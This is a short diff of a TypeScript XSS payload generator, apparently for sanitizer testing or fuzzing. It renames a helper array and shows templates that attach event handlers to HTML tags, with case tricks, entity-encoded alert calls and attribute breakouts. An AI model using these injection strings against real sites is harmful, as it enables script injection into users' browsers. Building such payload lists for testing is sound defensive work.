@@ -26,7 +26,7 @@ const events: [tag: string, handlers: string][] = [
 ]
 
 /** Ways to attach a handler to a tag: quotes, slashes, line ends, capitals, entities. */
-const hangings: ((tag: string, handler: string) => string)[] = [
+const attachments: ((tag: string, handler: string) => string)[] = [
   (tag, handler) => `<${tag} ${handler}=${js}>`,
   (tag, handler) => `<${tag.toUpperCase()}\n${handler.toUpperCase()}\t=\n'${js}'//>`,
   (tag, handler) => `"><${tag}/${handler}="&#97;lert&lpar;1&rpar;"><!--`,
@@ -117,7 +117,7 @@ export const payloads: readonly string[] = [
     ...breakouts,
     ...malformed,
     ...events.flatMap(([tag, handlers]) =>
-      handlers.split(' ').flatMap((handler) => hangings.map((hang) => hang(tag, handler))),
+      handlers.split(' ').flatMap((handler) => attachments.map((hang) => hang(tag, handler))),
     ),
     ...addresses.flatMap((address) => holders.map((hold) => hold(address))),
   ]),
